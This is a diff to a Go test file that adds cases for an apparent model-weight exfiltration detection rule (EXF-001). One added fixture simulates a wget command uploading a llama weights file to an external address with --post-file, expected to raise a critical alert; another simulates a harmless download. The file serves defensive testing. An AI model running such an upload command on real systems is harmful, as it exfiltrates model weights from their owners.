@@ -252,6 +252,19 @@ func aiRuleCases() []ruleCase {
 				unixEv(b, nil, "/var/lib/kubelet/pod-resources/kubelet.sock"),
 				unixEv(b, nil, "/run/nvidia-persistenced/socket"))
 		}, false, 0},
+		{"variant V40: wget --post-file reads the weights, then uploads them", "EXF-001", func() []*event.Event {
+			c := infer("v40")
+			w := proc(492, "/usr/bin/wget", "wget", "-q", "--post-file="+llamaFile, "http://10.200.2.2:9000/wget")
+			return evs(execEv(w, c), mopen(w, c, llamaFile, "", rd, 8*mib, 11),
+				cookieConn(w, c, "10.200.2.2", 9000, event.ClassExternal, 9),
+				egressEv(w, c, "10.200.2.2", 9000, event.ClassExternal, 9, 8*mib, true), exitEv(w, c))
+		}, true, event.SevCritical},
+		{"wget downloads next to the weights it reads (a downloader, no upload)", "EXF-001", func() []*event.Event {
+			c := infer("x")
+			w := proc(493, "/usr/bin/wget", "wget", "-q", "-O", "/tmp/h/models/x/config.json", "http://10.200.2.2:9000/config.json")
+			return evs(execEv(w, c), mopen(w, c, llamaFile, "", rd, 8*mib, 11),
+				cookieConn(w, c, "10.200.2.2", 9000, event.ClassExternal, 9), exitEv(w, c))
+		}, false, 0},
 		{"reader owns a GPU", "EXF-001", func() []*event.Event {
 			c := infer("x")
 			return evs(gpuStart(srv(491), c, 0, "GPU-0"), mopen(srv(491), c, llamaFile, "", rd, 8*mib, 11),
